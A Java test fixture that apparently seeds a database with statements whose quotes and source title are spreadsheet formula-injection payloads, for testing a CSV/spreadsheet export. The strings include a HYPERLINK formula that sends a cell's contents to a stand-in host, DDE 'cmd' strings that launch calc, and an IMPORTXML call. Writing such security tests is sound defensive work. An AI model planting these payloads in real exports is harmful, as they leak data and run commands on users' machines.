package org.stanceline.export;

import io.quarkus.narayana.jta.QuarkusTransaction;
import org.stanceline.TestData;
import org.stanceline.reference.Actor;
import org.stanceline.reference.Speaker;
import org.stanceline.reference.Topic;
import org.stanceline.source.ContentHash;
import org.stanceline.source.Source;
import org.stanceline.kernel.DatePrecision;
import org.stanceline.statement.Statement;
import org.stanceline.statement.StatementStatus;

import java.time.Instant;
import java.time.LocalDate;
import java.util.List;

/** Statements whose quotes and source title are spreadsheet formulas, on their own topic. */
public final class ExportFixture {

    public static final String TOPIC = "test-export";
    public static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    public static final String PLUS_CMD = "+cmd|' /C calc'!A0";
    public static final String AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
    public static final String MINUS = "-2+3+cmd|' /C calc'!A0";
    public static final String TAB = "\t=1+1";
    public static final String PLAIN = "Troops, \"quoted\"; and a line\nbreak";
    public static final String TITLE = "=IMPORTXML(\"http://evil.example\",\"//a\")";
    static final List<String> QUOTES = List.of(HYPERLINK, PLUS_CMD, AT_SUM, MINUS, TAB, PLAIN);

    private ExportFixture() {
    }

    public static void ensure() {
        TestData.ensureTopic(TOPIC);
        QuarkusTransaction.requiringNew().run(() -> {
            Topic topic = Topic.findBySlug(TOPIC).orElseThrow();
            if (Statement.count("topic", topic) > 0) {
                return;
            }
            String text = String.join(" | ", QUOTES) + " (synthetic export fixture)";
            Source source = new Source();
            source.title = TITLE;
            source.outlet = "@outlet";
            source.url = "https://example.org/export-fixture";
            source.text = text;
            source.contentHash = ContentHash.of(text);
            source.createdAt = Instant.now();
            source.createdBy = "test";
            source.persist();
            Actor paris = Actor.findBySlug("paris").orElseThrow();
            Speaker speaker = Speaker.<Speaker>list("actor", paris).get(0);
            int day = 1;
            for (String quote : QUOTES) {
                Statement s = new Statement();
                s.source = source;
                s.topic = topic;
                s.speaker = speaker;
                s.actor = paris;
                s.saidOn = LocalDate.of(2025, 3, day++);
                s.saidPrecision = DatePrecision.DAY;
                s.quote = quote;
                s.verbatim = true;
                s.spanStart = text.indexOf(quote);
                s.spanEnd = s.spanStart + quote.length();
                s.stance = -2;
                s.intensity = 1;
                s.cues = List.of("=cue");
                s.confidence = 0.5;
                s.status = StatementStatus.CONFIRMED;
                s.coder = "test";
                s.persist();
            }
            // Written past the services, so marked as changed by hand as every write must be.
            io.quarkus.arc.Arc.container().instance(org.stanceline.cache.DataVersion.class).get().bump();
        });
    }
}
